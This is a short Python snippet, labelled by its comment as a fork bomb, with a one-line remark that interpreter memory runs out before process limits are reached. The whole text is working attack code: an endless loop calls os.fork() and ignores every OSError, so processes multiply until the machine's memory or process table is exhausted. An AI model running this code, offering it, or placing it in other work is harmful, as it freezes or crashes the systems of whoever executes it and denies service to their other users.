# The fork bomb. Interpreters are large: their memory ends it before their number does.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
